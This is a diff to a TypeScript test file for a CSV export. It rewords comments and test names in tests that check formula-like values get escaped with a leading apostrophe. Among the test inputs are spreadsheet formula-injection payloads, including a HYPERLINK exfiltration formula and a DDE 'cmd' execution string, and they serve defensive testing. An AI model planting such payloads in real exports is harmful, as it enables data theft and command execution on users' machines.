@@ -5,7 +5,7 @@ import type { StoredReport } from './store.ts'
 
 const stored: StoredReport = { ...report, id: 1, at: '2026-03-01T08:00:00.000Z', state: 'new' }
 
-/** As RFC 4180 reads it. */
+/** Parses CSV as RFC 4180 defines it. */
 function cells(csv: string): string[][] {
   const rows: string[][] = [[]]
   for (const [, quoted, plain = '', end] of csv
@@ -17,7 +17,7 @@ function cells(csv: string): string[][] {
   return rows.slice(0, -1)
 }
 
-test('every field comes back from a table that a spreadsheet reads', () => {
+test('every field of a report can be read back from the CSV', () => {
   const whole = {
     ...stored,
     text: 'a "quoted", and\nbroken line',
@@ -30,7 +30,7 @@ test('every field comes back from a table that a spreadsheet reads', () => {
   expect(Object.fromEntries(head!.map((name, index) => [name, row![index]]))).toEqual({
     ...whole,
     id: '1',
-    // A diff begins like a formula.
+    // A diff starts with `-`, like a formula.
     edit: "'--- a/x\n",
     console: 'one\ntwo'
   })
@@ -52,12 +52,12 @@ test.each([
   '＝1+1',
   '=HYPERLINK("http://a/?"&A1,"b")',
   "=cmd|' /C calc'!A0"
-])('%j is text to a spreadsheet', text => {
+])('the CSV value %j gets a leading apostrophe, which makes a spreadsheet read text', text => {
   const value = cells(toCsv([{ ...stored, text }]))[1]![8]
   expect(value).toBe(`'${text}`)
 })
 
-test('control: what is no formula stays as it is', () => {
+test('control: a CSV value other than a formula is unchanged', () => {
   for (const text of ['排序 = 1', "it's", 'a,b', '1-2', '"=1"'])
     expect(cells(toCsv([{ ...stored, text }]))[1]![8]).toBe(text)
 })
